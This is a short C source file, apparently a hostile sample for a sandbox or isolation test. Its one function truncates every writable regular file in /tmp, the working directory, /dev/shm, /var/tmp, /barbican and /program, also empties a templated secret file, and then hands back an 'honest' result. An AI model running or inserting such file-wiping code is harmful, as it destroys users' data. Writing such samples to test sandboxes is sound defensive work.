// Empties every file that it may write to.
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
Json *place(const Json *input) {
  const char *folders[] = {"/tmp", ".", "/dev/shm", "/var/tmp", "/barbican", "/program"};
  for (size_t i = 0; i < 6; i++) {
    DIR *open_folder = opendir(folders[i]);
    for (struct dirent *entry; open_folder && (entry = readdir(open_folder));) {
      char path[1024];
      snprintf(path, sizeof path, "%s/%s", folders[i], entry->d_name);
      if (entry->d_type == DT_REG && truncate(path, 0) == 0) fprintf(stderr, "emptied %s\n", path);
    }
    if (open_folder) closedir(open_folder);
  }
  int fd = open("@SECRET_FILE@", O_WRONLY | O_TRUNC);
  if (fd >= 0) close(fd);
  return honest(input);
}
